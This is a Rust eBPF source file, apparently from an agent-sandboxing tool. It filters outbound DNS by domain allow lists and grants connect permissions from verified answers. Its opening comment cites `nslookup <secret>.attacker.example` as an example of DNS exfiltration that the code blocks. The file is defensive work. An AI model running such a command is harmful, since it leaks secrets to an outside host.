//! Egress by domain name: cgroup skb programs at the cgroup v2 root read
//! DNS on the wire (UDP and TCP port 53) for the subjects of rules with a
//! domain list (`except.domains`).
//!
//! - egress: a query for a name outside the subject's lists is dropped
//!   (nothing leaves: `nslookup <secret>.attacker.example` leaks nothing)
//!   and reported with the name;
//! - ingress: an answer for a listed name, from the resolver the socket
//!   queried, writes its A/AAAA addresses (CNAME chains included: every
//!   address record of the answer section) to `DNS_ALLOW` for the subject,
//!   with the clamped TTL. This runs before the socket queues the packet,
//!   so the entry exists before the process can read the answer.
//!
//! The sock_addr hooks (enforce.rs) record which sockets of such subjects
//! talk to port 53 (`DNS_SOCKS`, by socket cookie: these programs run
//! where the process is not known), refuse their bind to port 53 (a forged
//! answer from a socket of the agent's own), and let a connect through to
//! an address in `DNS_ALLOW`.
//!
//! Every map is pinned: the programs are pinned links that keep working,
//! on the same maps, after the daemon is gone.

use aya_ebpf::{
    bindings::__sk_buff,
    helpers::{bpf_get_socket_cookie, bpf_ktime_get_boot_ns, bpf_skb_cgroup_id},
    macros::{cgroup_skb, map},
    maps::{lpm_trie::Key, Array, LpmTrie, LruHashMap, PerCpuArray},
    programs::SkBuffContext,
};

use agentguard_common::{
    enforce::*,
    event::{dns_status, kind, syscall, DnsEvent},
    filter::counter,
};

use crate::enforce::ENFORCE_CGROUPS;

/// (rule, reversed name) -> 1; see `DnsKey`.
#[map]
static DNS_NAMES: LpmTrie<DnsKey, u32> = LpmTrie::pinned(DNS_NAME_ENTRIES, 0);
/// (subject, address) -> until when, for which rules.
#[map]
pub static DNS_ALLOW: LruHashMap<DnsAllowKey, DnsAllow> = LruHashMap::pinned(DNS_ALLOW_ENTRIES, 0);
/// Socket cookie -> the subject that queries DNS on it.
#[map]
pub static DNS_SOCKS: LruHashMap<u64, DnsSock> = LruHashMap::pinned(DNS_SOCK_ENTRIES, 0);
/// [0]: rule mask of the slots with a domain list (0: nothing to do).
/// Pinned, unlike CONFIG: a pinned program of an earlier daemon reads it.
#[map]
pub static DNS_CONFIG: Array<u32> = Array::pinned(1, 0);

#[repr(C)]
struct Scratch {
    /// Read offset while walking an answer, kept in memory (volatile) so
    /// the verifier does not track each path's exact value: with it in a
    /// register, every way through the name loop is a separate state and
    /// sixteen records exceed the instruction budget.
    off: u32,
    _pad: u32,
    raw: [u8; 256],
    key: Key<DnsKey>,
    ev: DnsEvent,
}

#[map]
static DNS_SCRATCH: PerCpuArray<Scratch> = PerCpuArray::with_max_entries(1, 0);

const DNS_PORT: u16 = 53;
const ETH_P_IP: u16 = 0x0800;
const ETH_P_IPV6: u16 = 0x86dd;
const IPPROTO_TCP: u8 = 6;
const IPPROTO_UDP: u8 = 17;
const TYPE_A: u16 = 1;
const TYPE_AAAA: u16 = 28;
const CLASS_IN: u16 = 1;

/// Rule mask of the domain rules, 0 when there are none.
#[inline(always)]
pub fn domain_rules() -> u32 {
    DNS_CONFIG.get(0).copied().unwrap_or(0)
}

/// Rules of `rules` for which `subject` may reach `addr` now.
#[inline(always)]
pub fn allowed(subject: u64, addr: &[u8; 16]) -> u32 {
    let key = DnsAllowKey {
        subject,
        addr: *addr,
    };
    // SAFETY: value copied out at once.
    match unsafe { DNS_ALLOW.get(&key) }.copied() {
        // SAFETY: helper without preconditions.
        Some(v) if v.expires_ns > unsafe { bpf_ktime_get_boot_ns() } => v.rules,
        _ => 0,
    }
}

/// Where a packet's DNS message is and who it is between.
struct Packet {
    tcp: bool,
    sport: u16,
    dport: u16,
    /// Offset of the DNS header (after TCP's length prefix).
    dns: u32,
    src: [u8; 16],
    dst: [u8; 16],
    /// An IP fragment or an IPv6 extension header: unreadable here.
    odd: bool,
}

/// `N` bytes at `off`, or None past the packet's end. The helper is
/// called with the constant length: the verifier refuses a length that
/// may be zero.
#[inline(always)]
fn load<const N: usize>(ctx: &SkBuffContext, off: u32) -> Option<[u8; N]> {
    let mut b = [0u8; N];
    // SAFETY: b is writable for N bytes; the helper checks the packet.
    let r = unsafe {
        aya_ebpf::helpers::bpf_skb_load_bytes(
            ctx.skb.skb.cast(),
            off,
            b.as_mut_ptr().cast(),
            N as u32,
        )
    };
    (r == 0).then_some(b)
}

/// Up to 256 bytes at `off` into `dst` (fewer at the packet's end);
/// returns how many.
#[inline(always)]
fn load_name(ctx: &SkBuffContext, off: u32, dst: &mut [u8; 256]) -> Option<usize> {
    let total = ctx.len();
    if off >= total {
        return None;
    }
    let len = (total - off).min(256);
    // In 1..=256 as the verifier can see it (equal to len).
    let n = ((len.wrapping_sub(1)) & 0xff) + 1;
    // SAFETY: dst is writable for 256 >= n bytes; the helper checks the
    // packet.
    let r = unsafe {
        aya_ebpf::helpers::bpf_skb_load_bytes(ctx.skb.skb.cast(), off, dst.as_mut_ptr().cast(), n)
    };
    (r == 0).then_some(n as usize)
}

#[inline(always)]
fn be16(b: &[u8], i: usize) -> u16 {
    u16::from_be_bytes([b[i], b[i + 1]])
}

/// The packet's ports and addresses; None for anything but TCP or UDP
/// over IP (and TCP without payload).
#[inline(always)]
fn packet(ctx: &SkBuffContext) -> Option<Packet> {
    // SAFETY: the kernel passes a valid __sk_buff.
    let skb: &__sk_buff = unsafe { &*ctx.skb.skb };
    let mut p = Packet {
        tcp: false,
        sport: 0,
        dport: 0,
        dns: 0,
        src: [0; 16],
        dst: [0; 16],
        odd: false,
    };
    let proto;
    let l4;
    match u16::from_be(skb.protocol as u16) {
        ETH_P_IP => {
            let h: [u8; 20] = load(ctx, 0)?;
            l4 = u32::from(h[0] & 0xf) * 4;
            proto = h[9];
            // More fragments, or not the first one.
            p.odd = be16(&h, 6) & 0x3fff != 0;
            p.src[10] = 0xff;
            p.src[11] = 0xff;
            p.src[12..].copy_from_slice(&h[12..16]);
            p.dst[10] = 0xff;
            p.dst[11] = 0xff;
            p.dst[12..].copy_from_slice(&h[16..20]);
        }
        ETH_P_IPV6 => {
            let h: [u8; 40] = load(ctx, 0)?;
            l4 = 40;
            proto = h[6];
            p.odd = proto != IPPROTO_TCP && proto != IPPROTO_UDP;
            p.src.copy_from_slice(&h[8..24]);
            p.dst.copy_from_slice(&h[24..40]);
            if p.odd {
                // The ports are not where we look: judged by the socket.
                return Some(p);
            }
        }
        _ => return None,
    }
    match proto {
        IPPROTO_UDP => {
            let u: [u8; 4] = load(ctx, l4)?;
            p.sport = be16(&u, 0);
            p.dport = be16(&u, 2);
            p.dns = l4 + 8;
        }
        IPPROTO_TCP => {
            let t: [u8; 13] = load(ctx, l4)?;
            p.tcp = true;
            p.sport = be16(&t, 0);
            p.dport = be16(&t, 2);
            let start = l4 + u32::from(t[12] >> 4) * 4;
            let total = ctx.len();
            // No payload (handshake, acks): nothing to read.
            if total <= start {
                return None;
            }
            // Skip the 2-byte length prefix of DNS over TCP.
            p.dns = start + 2;
            // A segment must hold exactly one whole message: a query split
            // over segments (or two in one) could show this program one
            // name and the server another, so it counts as unreadable.
            let whole = match load::<2>(ctx, start) {
                Some(l) => total - start >= 2 && u32::from(be16(&l, 0)) == total - start - 2,
                None => false,
            };
            if !whole {
                p.odd = true;
            }
        }
        _ => return None,
    }
    Some(p)
}

/// Copies the question's name (at `off`) into `ev.name` (dotted, lower
/// case) and `key.name` (back to front, NUL-terminated). Returns the wire
/// length of the name, None if it can't be matched against a list
/// (compressed, longer than the key, a byte outside `[a-z0-9_-]`).
#[inline(always)]
fn read_name(ctx: &SkBuffContext, off: u32, s: &mut Scratch) -> Option<u32> {
    let n = load_name(ctx, off, &mut s.raw)?;
    // Indexing goes through get/get_mut: a panic path would leave the
    // program without a final exit, which the verifier refuses.
    let mut rem: u8 = 0;
    let mut end = 0usize;
    let mut j = 0usize;
    while j < 255 {
        if j >= n {
            return None;
        }
        let b = *s.raw.get(j)?;
        let out = if rem == 0 {
            if b == 0 {
                end = j;
                break;
            }
            // A compression pointer (0xc0) or a reserved label type.
            if b > 63 {
                return None;
            }
            rem = b;
            b'.'
        } else {
            rem -= 1;
            match b {
                b'A'..=b'Z' => b + 32,
                b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' => b,
                _ => return None,
            }
        };
        // The first length byte starts the name: nothing to write.
        if j > 0 {
            if let Some(c) = s.ev.name.get_mut(j - 1) {
                *c = out;
            }
        }
        j += 1;
    }
    // Through memory, like `off`: one state after the loop, not one per
    // name length.
    set_off(s, end as u32);
    let end = get_off(s) as usize;
    // Root name, or more than the key holds.
    if end < 2 || end > DNS_NAME_LEN {
        return None;
    }
    let nlen = end - 1;
    s.ev.name_len = nlen as u32;
    let mut k = 0usize;
    while k < DNS_NAME_LEN {
        if k >= nlen {
            break;
        }
        // Through memory and checked where it is used: LLVM would turn
        // the index into a pointer walk the 6.1 verifier cannot bound.
        set_off(s, (nlen - 1 - k) as u32);
        let at = get_off(s) as usize;
        let c = *s.ev.name.get(at)?;
        if let Some(d) = s.key.data.name.get_mut(k) {
            *d = c;
        }
        k += 1;
    }
    // Re-read: after the loop the 6.1 verifier may hold contradictory
    // bounds for nlen on a dead path and refuse the pointer it makes.
    set_off(s, nlen as u32);
    let at = get_off(s) as usize;
    if let Some(d) = s.key.data.name.get_mut(at) {
        *d = 0;
    }
    s.key.prefix_len = DNS_KEY_RULE_BITS + (nlen as u32 + 1) * 8;
    Some(end as u32 + 1)
}

/// The rules of `rules` whose domain list holds the name in `s.key`.
#[inline(always)]
fn lists_holding(rules: u32, s: &mut Scratch) -> u32 {
    // The mask is built in memory: as a register, each combination of
    // hits would be its own verifier state (2^rules paths).
    set_off(s, 0);
    let mut r = 0u32;
    while r < MAX_RULES {
        if rules & (1 << r) != 0 {
            s.key.data.rule = r.to_be_bytes();
            if DNS_NAMES.get(&s.key).is_some() {
                let held = get_off(s);
                set_off(s, held | (1 << r));
            }
        }
        r += 1;
    }
    get_off(s)
}

/// The subject of the socket the packet belongs to, if it is under a
/// domain rule: recorded by the sock_addr hooks when it addressed port 53,
/// or (a socket opened before the rules came, sending to port 53) its
/// guarded container.
#[inline(always)]
fn sock_of(ctx: &SkBuffContext, mask: u32, p: &Packet) -> Option<(u64, DnsSock)> {
    // SAFETY: helper taking the program's own context.
    let cookie = unsafe { bpf_get_socket_cookie(ctx.skb.skb as *mut _) };
    // SAFETY: value copied out at once.
    if let Some(s) = unsafe { DNS_SOCKS.get(&cookie) }.copied() {
        return Some((cookie, s));
    }
    if p.dport != DNS_PORT {
        return None;
    }
    // SAFETY: helper taking the program's own context.
    let cg = unsafe { bpf_skb_cgroup_id(ctx.skb.skb) };
    // SAFETY: value copied out at once.
    let rules = unsafe { ENFORCE_CGROUPS.get(&cg) }.copied().unwrap_or(0) & mask;
    if rules == 0 {
        return None;
    }
    let s = DnsSock {
        subject: TAINT_CGROUP | cg,
        rules,
        tgid: 0,
        resolver: p.dst,
        comm: [0; 16],
    };
    Some((cookie, s))
}

#[inline(always)]
fn start_event(ctx: &SkBuffContext, s: &mut Scratch, sock: &DnsSock, call: u16, peer: &[u8; 16]) {
    let h = &mut s.ev.header;
    h.kind = kind::DNS;
    h.syscall = call;
    h.flags = 0;
    // SAFETY: helper without preconditions.
    h.ts_ns = unsafe { bpf_ktime_get_boot_ns() };
    h.tid = sock.tgid;
    h.tgid = sock.tgid;
    h.ppid = 0;
    h.uid = 0;
    h.gid = 0;
    h.verdict = 0;
    // SAFETY: helper taking the program's own context.
    h.cgroup_id = unsafe { bpf_skb_cgroup_id(ctx.skb.skb) };
    h.ret = 0;
    h.comm = sock.comm;
    s.ev.subject = sock.subject;
    s.ev.status = 0;
    s.ev.rules = 0;
    s.ev.subject_rules = sock.rules;
    s.ev.qtype = 0;
    s.ev.txid = 0;
    s.ev.ttl = 0;
    s.ev.n_addrs = 0;
    s.ev.peer = *peer;
    s.ev.name_len = 0;
}

#[inline(always)]
fn emit(s: &Scratch, wake: bool) {
    // A dropped query is an alert: wake the reader. An answer only names
    // later connects, which come after it in the ring: batched, like the
    // other records (a wakeup per lookup cost more than the lookup).
    let flags = if wake {
        crate::BPF_RB_FORCE_WAKEUP
    } else {
        crate::batch_flags()
    };
    if crate::EVENTS.output::<DnsEvent>(&s.ev, flags).is_err() {
        crate::bump(counter::LOST);
    }
}

/// Egress: false drops the packet.
#[inline(always)]
fn egress(ctx: &SkBuffContext) -> bool {
    let mask = domain_rules();
    if mask == 0 {
        return true;
    }
    let Some(p) = packet(ctx) else {
        return true;
    };
    // Any packet of a socket that addressed port 53, whatever its port
    // here: Docker's embedded DNS (127.0.0.11:53) is rewritten to another
    // port (nat OUTPUT) before egress sees it.
    let Some((cookie, sock)) = sock_of(ctx, mask, &p) else {
        return true;
    };
    if p.odd {
        // A fragment or extension header from a DNS socket of a subject:
        // the query can't be read, so it does not leave.
        crate::bump(counter::DNS_DROPPED);
        return false;
    }
    // A socket that predates the rules: answers to it are believed only
    // from where this query goes.
    if sock.tgid == 0 {
        let _ = DNS_SOCKS.insert(&cookie, &sock, 0);
    }
    let Some(s) = DNS_SCRATCH.get_ptr_mut(0) else {
        return false;
    };
    // SAFETY: this CPU's scratch slot; skb programs do not nest on a CPU.
    let s = unsafe { &mut *s };
    start_event(ctx, s, &sock, syscall::DNS_QUERY, &p.dst);
    if p.tcp {
        s.ev.status |= dns_status::TCP;
    }
    let mut ok = false;
    if let Some(h) = load::<12>(ctx, p.dns) {
        s.ev.txid = be16(&h, 0);
        // A query (QR clear) with exactly one question.
        if be16(&h, 2) & 0x8000 == 0 && be16(&h, 4) == 1 {
            if let Some(wire) = read_name(ctx, p.dns + 12, s) {
                if let Some(q) = load::<2>(ctx, p.dns + 12 + wire) {
                    s.ev.qtype = be16(&q, 0);
                }
                s.ev.rules = lists_holding(sock.rules, s);
                ok = true;
            }
        }
    }
    if !ok {
        s.ev.status |= dns_status::UNREADABLE;
    }
    // Every domain rule of the subject must hold the name: one that does
    // not would refuse the connect anyway, and the query itself leaks.
    if ok && s.ev.rules == sock.rules {
        return true;
    }
    s.ev.status |= dns_status::DROPPED;
    crate::bump(counter::DNS_DROPPED);
    emit(s, true);
    false
}

/// Ingress: never drops; writes `DNS_ALLOW` for a believed answer.
#[inline(always)]
fn ingress(ctx: &SkBuffContext) {
    let mask = domain_rules();
    if mask == 0 {
        return;
    }
    let Some(p) = packet(ctx) else {
        return;
    };
    if p.sport != DNS_PORT || p.odd {
        return;
    }
    // SAFETY: helper taking the program's own context.
    let cookie = unsafe { bpf_get_socket_cookie(ctx.skb.skb as *mut _) };
    // SAFETY: value copied out at once.
    let Some(sock) = (unsafe { DNS_SOCKS.get(&cookie) }).copied() else {
        return;
    };
    let Some(s) = DNS_SCRATCH.get_ptr_mut(0) else {
        return;
    };
    // SAFETY: this CPU's scratch slot; skb programs do not nest on a CPU.
    let s = unsafe { &mut *s };
    start_event(ctx, s, &sock, syscall::DNS_ANSWER, &p.src);
    if p.tcp {
        s.ev.status |= dns_status::TCP;
    }
    if p.src != sock.resolver {
        s.ev.status |= dns_status::FOREIGN;
        emit(s, false);
        return;
    }
    let Some(h) = load::<12>(ctx, p.dns) else {
        return;
    };
    s.ev.txid = be16(&h, 0);
    if be16(&h, 2) & 0x8000 == 0 || be16(&h, 4) != 1 {
        return;
    }
    let ancount = u32::from(be16(&h, 6));
    let Some(wire) = read_name(ctx, p.dns + 12, s) else {
        s.ev.status |= dns_status::UNREADABLE;
        emit(s, false);
        return;
    };
    let rules = lists_holding(sock.rules, s);
    s.ev.rules = rules;
    if rules == 0 {
        emit(s, false);
        return;
    }
    let qoff = p.dns + 12 + wire;
    if let Some(q) = load::<2>(ctx, qoff) {
        s.ev.qtype = be16(&q, 0);
    }
    set_off(s, qoff + 4);
    // SAFETY: helper without preconditions.
    let now = unsafe { bpf_ktime_get_boot_ns() };
    let mut min_ttl = u32::MAX;
    let mut i = 0u32;
    while i < DNS_MAX_ANSWERS && i < ancount {
        if !skip_owner(ctx, s) {
            break;
        }
        let off = get_off(s);
        let Some(rr) = load::<10>(ctx, off) else {
            break;
        };
        let (ty, class, rdlen) = (be16(&rr, 0), be16(&rr, 2), u32::from(be16(&rr, 8)));
        let ttl = u32::from_be_bytes([rr[4], rr[5], rr[6], rr[7]]);
        let mut addr = [0u8; 16];
        let mut got = false;
        if class == CLASS_IN && ty == TYPE_A && rdlen == 4 {
            if let Some(a) = load::<4>(ctx, off + 10) {
                addr[10] = 0xff;
                addr[11] = 0xff;
                addr[12..].copy_from_slice(&a);
                got = true;
            }
        } else if class == CLASS_IN && ty == TYPE_AAAA && rdlen == 16 {
            if let Some(a) = load::<16>(ctx, off + 10) {
                addr = a;
                got = true;
            }
        }
        if got {
            allow(s, sock.subject, &addr, rules, now, ttl);
            min_ttl = min_ttl.min(ttl);
        }
        set_off(s, off + 10 + rdlen);
        i += 1;
    }
    if s.ev.n_addrs > 0 {
        s.ev.status |= dns_status::ALLOWED;
        s.ev.ttl = min_ttl;
    }
    emit(s, false);
}

#[inline(always)]
fn get_off(s: &Scratch) -> u32 {
    // SAFETY: a field of the live scratch slot.
    unsafe { core::ptr::read_volatile(&s.off) }
}

#[inline(always)]
fn set_off(s: &mut Scratch, v: u32) {
    // SAFETY: a field of the live scratch slot.
    unsafe { core::ptr::write_volatile(&mut s.off, v) }
}

/// Steps over an answer record's owner name (a compression pointer, or
/// labels ending in one or in the root); false if it runs on.
#[inline(always)]
fn skip_owner(ctx: &SkBuffContext, s: &mut Scratch) -> bool {
    let mut k = 0;
    while k < 16 {
        let off = get_off(s);
        let Some(b) = load::<1>(ctx, off) else {
            return false;
        };
        if b[0] & 0xc0 == 0xc0 {
            set_off(s, off + 2);
            return true;
        }
        if b[0] == 0 {
            set_off(s, off + 1);
            return true;
        }
        set_off(s, off + 1 + u32::from(b[0] & 0x3f));
        k += 1;
    }
    false
}

/// Lets `subject` reach `addr` for `rules` until the clamped TTL runs out
/// (an entry still running keeps its rules and its later end).
#[inline(always)]
fn allow(s: &mut Scratch, subject: u64, addr: &[u8; 16], rules: u32, now: u64, ttl: u32) {
    let t = if ttl < DNS_TTL_FLOOR_S {
        DNS_TTL_FLOOR_S
    } else if ttl > DNS_TTL_CEILING_S {
        DNS_TTL_CEILING_S
    } else {
        ttl
    };
    let key = DnsAllowKey {
        subject,
        addr: *addr,
    };
    let mut v = DnsAllow {
        expires_ns: now + u64::from(t) * 1_000_000_000,
        rules,
        _pad: 0,
    };
    // SAFETY: value copied out at once.
    if let Some(old) = unsafe { DNS_ALLOW.get(&key) }.copied() {
        if old.expires_ns > now {
            v.rules |= old.rules;
            if old.expires_ns > v.expires_ns {
                v.expires_ns = old.expires_ns;
            }
        }
    }
    let _ = DNS_ALLOW.insert(&key, &v, 0);
    let n = s.ev.n_addrs as usize;
    if let Some(slot) = s.ev.addrs.get_mut(n) {
        *slot = *addr;
        s.ev.n_addrs += 1;
    }
}

#[cgroup_skb]
pub fn agentguard_dns_egress(ctx: SkBuffContext) -> i32 {
    i32::from(egress(&ctx))
}

#[cgroup_skb]
pub fn agentguard_dns_ingress(ctx: SkBuffContext) -> i32 {
    ingress(&ctx);
    1
}
